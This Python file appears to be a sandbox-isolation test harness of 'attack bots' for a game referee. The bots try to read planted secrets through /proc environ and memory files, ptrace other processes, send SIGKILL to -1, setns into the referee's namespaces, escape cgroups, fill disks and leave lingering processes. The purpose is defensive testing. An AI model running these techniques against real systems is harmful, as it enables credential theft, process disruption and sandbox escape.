"""Attack bots: ``python3 attack.py ATTACK [MARK]`` (the standard library only).

Each ATTACK below is one bot program (``victim`` is the well-behaved one).

A bot plays legal random choices and makes its attack at its first request.
It reports on stderr, one line each: ``TRIED <what>: <outcome>`` for every
attempt, and ``FOUND <where> <secret>`` for every ``NMSECRET-<hex>`` string
it managed to read anywhere.  The secrets' values are planted by the test
(in the referee's environment, a victim bot's environment and files, the
league directory); a bot knows only their prefix, so the test's check that no
planted value appears on its stderr cannot be faked by the bot.
"""

from __future__ import annotations

import ctypes
import json
import os
import random
import re
import signal
import socket
import stat
import sys
import time
from collections.abc import Callable
from functools import partial
from typing import Any, TextIO

Message = dict[str, Any]
SECRET = re.compile(rb"NMSECRET-[0-9a-f]+")
TARGETS: dict[str, Any] = json.loads(os.environ.get("ATTACK_TARGETS", "{}"))
RNG = random.Random(0)
# What marks a process a bot leaves behind (``attack.py ATTACK MARK``): one per test run.
MARK = sys.argv[2] if len(sys.argv) > 2 else "NMLINGER"


def say(text: str) -> None:
    sys.stderr.write(text.replace("\n", " ") + "\n")
    sys.stderr.flush()


def tried(what: str, action: Callable[[], object]) -> object:
    """Run one attempt; report how it went (and any secret in what it returned)."""
    try:
        result = action()
    except Exception as error:  # an attack that fails is the expected outcome
        say(f"TRIED {what}: refused: {type(error).__name__}: {error}")
        return None
    say(f"TRIED {what}: succeeded")
    if isinstance(result, bytes):
        found(what, result)
    return result


def found(where: str, data: bytes) -> None:
    for secret in sorted(set(SECRET.findall(data))):
        say(f"FOUND {where} {secret.decode()}")


def read(path: str, limit: int = 1 << 20) -> bytes:
    with open(path, "rb") as handle:
        return handle.read(limit)


class Wire:
    """The bot's connection: stdio, or the TCP address in NEWMARKET_CONNECT (with its token)."""

    def __init__(self) -> None:
        connect = os.environ.get("NEWMARKET_CONNECT")
        self.token = os.environ.get("NEWMARKET_TOKEN")
        self.reader: TextIO
        self.writer: TextIO
        if connect:
            host, _, port = connect.rpartition(":")
            sock = socket.create_connection((host.strip("[]"), int(port)), timeout=30)
            sock.settimeout(None)
            self.reader = sock.makefile("r", encoding="utf-8")
            self.writer = sock.makefile("w", encoding="utf-8")
        else:
            self.reader, self.writer = sys.stdin, sys.stdout

    def send(self, message: Message) -> None:
        self.writer.write(json.dumps(message) + "\n")
        self.writer.flush()


def choice(request: Message) -> object:
    decision = request["decision"]
    if decision in ("lead", "dead_hand"):
        return RNG.choice(request["legal"])
    if decision == "bid":
        return RNG.randint(0, request["max_bid"])
    amounts = [0] * len(request["boodle_cards"])
    for _ in range(request["stake_total"]):
        amounts[RNG.randrange(len(amounts))] += 1
    return amounts


def held_fds() -> list[str]:
    """The descriptors this process was started with (before it opens any), and what each is.

    A bot must hold only 0, 1 and 2: anything else leaked from the referee (a pipe to
    another bot, the match log, the database) is a way in."""
    held = []
    for fd in range(1024):
        try:
            os.fstat(fd)
        except OSError:
            continue
        try:
            what = os.readlink(f"/proc/self/fd/{fd}")
        except OSError as error:
            what = type(error).__name__
        held.append(f"{fd}={what}")
    return held


def run(attack: Callable[[], None], name: str) -> None:
    """Handshake, then play; ``attack()`` once, when the first request arrives."""
    say(f"held fds {[item.split('=')[0] for item in held_fds()]} {held_fds()}")
    wire = Wire()
    attacked = bool(os.environ.get("ATTACK_EARLY"))  # attack once connected, before any request
    if attacked:
        attack()
        say("ATTACK DONE")
    for line in wire.reader:
        message = json.loads(line)
        kind = message.get("type")
        if kind == "hello":
            ready: Message = {"type": "ready", "name": name, "protocol": 1}
            if wire.token:
                ready["token"] = wire.token
            wire.send(ready)
        elif kind == "request":
            if not attacked:
                attacked = True
                attack()
                if name != "victim":
                    say("ATTACK DONE")
            wire.send({"type": "reply", "id": message["id"], "choice": choice(message)})
        elif kind == "shutdown":
            return


def lock(path: str) -> None:
    """Take and keep an exclusive lock on ``path`` (a league's one-writer lock)."""
    import fcntl

    handle = open(path, "rb")  # noqa: SIM115 - kept open: the lock lasts as long as the bot
    fcntl.flock(handle.fileno(), fcntl.LOCK_EX | fcntl.LOCK_NB)
    HELD.append(handle)


HELD: list[object] = []  # what ``lock`` keeps open


def read_files() -> None:
    """Reads the referee's secrets by absolute path and through /proc, and tries to write them.

    The league database, league file, tokens file, the match logs, a victim bot's
    directory; ``/proc/<referee>/fd/*`` (the live match log); then tries to write
    the database and to fill the league's directory."""
    for path in TARGETS.get("files", []):
        tried(f"read {path}", partial(read, path))
    for directory in TARGETS.get("dirs", []):
        names = tried(f"list {directory}", partial(os.listdir, directory))
        if isinstance(names, list):
            say(f"listed {directory}: {sorted(names)}")
        for name in names if isinstance(names, list) else []:
            full = os.path.join(directory, str(name))
            if os.path.isfile(full):
                tried(f"read {full}", partial(read, full))
    for pid in TARGETS.get("pids", []):
        fds = tried(f"list /proc/{pid}/fd", partial(os.listdir, f"/proc/{pid}/fd"))
        for fd in fds if isinstance(fds, list) else []:
            tried(f"read /proc/{pid}/fd/{fd}", partial(read, f"/proc/{pid}/fd/{fd}"))
    for path in TARGETS.get("writable", []):

        def forge(path: str = path) -> None:
            with open(path, "r+b") as handle:
                handle.write(b"forged")

        tried(f"write {path}", forge)
    for path in TARGETS.get("lockable", []):
        tried(f"lock {path}", partial(lock, path))
    for directory in TARGETS.get("fill", []):
        tried(f"fill {directory}", partial(fill, directory))
    scratch = os.environ.get("TMPDIR", "/tmp")
    for directory in (os.getcwd(), "/", "/dev", "/etc", "/var/tmp", "/run", "/home"):
        if directory != scratch:
            tried(f"create {directory}/nmforged", partial(create, f"{directory}/nmforged"))
    tried(f"create {scratch}/nmscratch", partial(create, f"{scratch}/nmscratch"))
    tried("fill /dev/shm with 64 MiB", partial(fill, "/dev/shm"))  # (POSIX shared memory's)
    say(f"cwd {os.getcwd()} sees {sorted(os.listdir('/'))}")


def fill(directory: str) -> None:
    """Write 64 MiB into ``directory`` (then remove it: a full scratch would hide the rest)."""
    path = os.path.join(directory, "filler")
    try:
        with open(path, "wb") as handle:
            for _ in range(64):
                handle.write(b"\0" * (1 << 20))
                handle.flush()
    finally:
        if os.path.exists(path):
            os.unlink(path)


def create(path: str) -> None:
    with open(path, "xb") as handle:
        handle.write(b"forged")


def proc_spy() -> None:
    """Reads every other process's environment, command line and memory it can see, and the
    referee's by its host pid; tries to write into another process's stdout pipe."""
    me = os.getpid()
    visible = sorted(int(name) for name in os.listdir("/proc") if name.isdigit())
    say(f"visible pids {visible} (me {me})")
    for pid in [*TARGETS.get("pids", []), *(p for p in visible if p != me)]:
        for part in ("environ", "cmdline", "mem", "maps"):
            path = f"/proc/{pid}/{part}"
            tried(f"read {path}", partial(read, path))
        fds = tried(f"list /proc/{pid}/fd", partial(os.listdir, f"/proc/{pid}/fd"))
        if len(visible) <= 8:  # (in its own pid namespace: never open strangers' descriptors)
            for fd in fds if isinstance(fds, list) else []:
                tried(f"open /proc/{pid}/fd/{fd}", partial(peek, f"/proc/{pid}/fd/{fd}"))
        for link in ("root", "cwd"):  # its init's: its own view, or a way out of it
            path = f"/proc/{pid}/{link}/"
            names = tried(f"list {path}", partial(os.listdir, path))
            say(f"{path} shows {sorted(names) if isinstance(names, list) else None}")

        def hijack(pid: int = pid) -> None:
            with open(f"/proc/{pid}/fd/1", "wb") as handle:
                handle.write(b'{"type": "reply", "id": 1, "choice": 0}\n')

        if len(visible) > 8:  # not in its own pid namespace: never write into strangers
            say(f"TRIED write /proc/{pid}/fd/1: unsafe: not in a pid namespace")
        elif pid in TARGETS.get("pids", []) or pid > 2:
            tried(f"write /proc/{pid}/fd/1", hijack)
    say(f"/ shows {sorted(os.listdir('/'))}")


def peek(path: str) -> str:
    """Open ``path`` (another process's descriptor) and say what it is: a file's secrets
    are ``FOUND``, a directory's names shown; a pipe is never read (it would block)."""
    target = os.readlink(path)
    say(f"link {path} -> {target}")
    fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    try:
        info = os.fstat(fd)
        if stat.S_ISREG(info.st_mode):
            found(path, os.pread(fd, 1 << 20, 0))
        elif stat.S_ISDIR(info.st_mode):
            say(f"directory {path} -> {target} holds {sorted(os.listdir(fd))}")
    finally:
        os.close(fd)
    say(f"opened {path} -> {target}")
    return target


def signals() -> None:
    """Stops and kills what it can: the referee and table worker by host pid, its parent, and
    every process kill(-1) reaches (every competitor, were they visible).

    Only inside a pid namespace of its own (it sees at most a handful of processes):
    outside one, a bot run by root would SIGSTOP or SIGKILL every process on the machine,
    so it says ``unsafe`` instead, which fails the test without harming the machine.
    """
    visible = [name for name in os.listdir("/proc") if name.isdigit()]
    if len(visible) > 8:
        say(f"TRIED signals: unsafe: {len(visible)} processes visible, not in a pid namespace")
        return
    say(f"probed pids {[pid for pid in range(1, 1 << 16) if exists(pid)]} (me {os.getpid()})")
    for pid in TARGETS.get("pids", []):
        tried(f"ptrace attach {pid}", partial(ptrace_attach, pid))
        tried(f"SIGSTOP {pid}", partial(os.kill, pid, signal.SIGSTOP))
    tried(f"SIGSTOP parent {os.getppid()}", lambda: os.kill(os.getppid(), signal.SIGSTOP))
    tried("SIGSTOP -1", lambda: os.kill(-1, signal.SIGSTOP))
    tried("SIGKILL -1", lambda: os.kill(-1, signal.SIGKILL))


def exists(pid: int) -> bool:
    """Whether a process ``pid`` is there to signal (signal 0: nothing is sent)."""
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    except PermissionError:
        return True  # there, but not ours: still a process it can see
    return True


def libc_call(name: str, *args: object) -> None:
    """Call libc's ``name``; an OSError with its errno if it fails."""
    libc = ctypes.CDLL(None, use_errno=True)
    if getattr(libc, name)(*args) != 0:
        error = ctypes.get_errno()
        raise OSError(error, os.strerror(error))


def ptrace_attach(pid: int) -> None:
    PTRACE_ATTACH, PTRACE_DETACH = 16, 17  # <sys/ptrace.h>
    libc_call("ptrace", PTRACE_ATTACH, pid, None, None)
    os.waitpid(pid, 0)
    libc_call("ptrace", PTRACE_DETACH, pid, None, None)


def setns(path: str) -> None:
    fd = os.open(path, os.O_RDONLY)
    try:
        libc_call("setns", fd, 0)
    finally:
        os.close(fd)


def net_escape() -> None:
    """Connects to listeners on the host's 127.0.0.1 and setns()es into the referee's netns."""
    for pid in TARGETS.get("pids", []):
        for kind in ("net", "mnt", "pid", "user", "ipc", "uts", "cgroup"):
            tried(f"setns /proc/{pid}/ns/{kind}", partial(setns, f"/proc/{pid}/ns/{kind}"))
    for port in TARGETS.get("ports", []):

        def connect(port: int = port) -> None:
            with socket.create_connection(("127.0.0.1", port), timeout=3) as sock:
                sock.sendall(b"NMLEAK\n")

        tried(f"connect 127.0.0.1:{port}", connect)
    tried("resolve example.com", lambda: socket.getaddrinfo("example.com", 80))


def move(path: str) -> None:
    with open(path, "w") as handle:
        handle.write(str(os.getpid()))


def cgroup_escape() -> None:
    """Moves itself out of its cgroups (into the parents' cgroup.procs), then leaves a process
    behind that should outlive the match (setsid, double fork, marked ``MARK``)."""
    say("own cgroups " + read("/proc/self/cgroup").decode().replace("\n", " "))
    for path in [*TARGETS.get("cgroup_procs", []), "/sys/fs/cgroup/memory/cgroup.procs"]:
        tried(f"write {path}", partial(move, path))
    mountpoint = os.path.join(os.environ.get("TMPDIR", "/tmp"), "cg")
    os.makedirs(mountpoint, exist_ok=True)
    for fstype, options in (("cgroup2", None), ("cgroup", b"pids")):
        mount = partial(
            libc_call, "mount", fstype.encode(), mountpoint.encode(), fstype.encode(), 0, options
        )
        tried(f"mount {fstype}", mount)
    CLONE_NEWUSER = 0x10000000  # <sched.h>
    tried("unshare user namespace", partial(libc_call, "unshare", CLONE_NEWUSER))
    linger()
    time.sleep(0.5)
    alive = [
        name
        for name in os.listdir("/proc")
        if name.isdigit() and MARK.encode() in read(f"/proc/{name}/cmdline").split(b"\0")
    ]
    say(f"TRIED linger: running as {alive}")


def linger() -> None:
    """Leave a process behind, out of this one's session (setsid, double fork), marked."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            code = "import time; time.sleep(600)"
            os.execv(sys.executable, [sys.executable, "-c", code, MARK])
        os._exit(0)


def hang() -> None:
    """Leaves a process behind, then never answers: the referee is killed meanwhile."""
    linger()
    say("ATTACK DONE")
    time.sleep(600)


def fill_scratch() -> None:
    """Fills its scratch space ($TMPDIR) until the write fails, and crashes there."""
    written = 0
    with open(os.path.join(os.environ.get("TMPDIR", "/tmp"), "filler"), "wb") as handle:
        while True:
            try:
                handle.write(b"\0" * (1 << 20))
                handle.flush()
            except OSError as error:
                say(f"scratch full after {written} MiB: {error}")
                raise
            written += 1


def victim() -> None:
    """Nothing: a well-behaved bot with secrets in its environment and directory."""


ATTACKS: dict[str, Callable[[], None]] = {
    "victim": victim,
    "read_files": read_files,
    "proc_spy": proc_spy,
    "signals": signals,
    "net_escape": net_escape,
    "cgroup_escape": cgroup_escape,
    "fill_scratch": fill_scratch,
    "hang": hang,
}

if __name__ == "__main__":
    chosen = sys.argv[1]
    run(ATTACKS[chosen], chosen)
